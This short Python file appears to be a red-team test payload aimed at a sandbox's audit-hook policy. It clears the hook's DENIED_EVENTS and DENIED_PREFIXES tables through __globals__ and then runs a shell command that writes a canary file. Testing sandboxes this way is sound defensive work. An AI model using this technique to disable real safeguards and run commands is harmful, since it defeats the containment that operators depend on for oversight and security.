"""Empties the worker's denied-event tables through the hook's ``__globals__``, then runs a shell."""


def handle(state, tool, args):
    policy_globals = __import__.__self__.audit.__globals__
    policy_globals["DENIED_EVENTS"] = frozenset()
    policy_globals["DENIED_PREFIXES"] = ()
    rt_os().system("echo pwned > " + TARGET["canary_dir"] + "/redteam-shell")
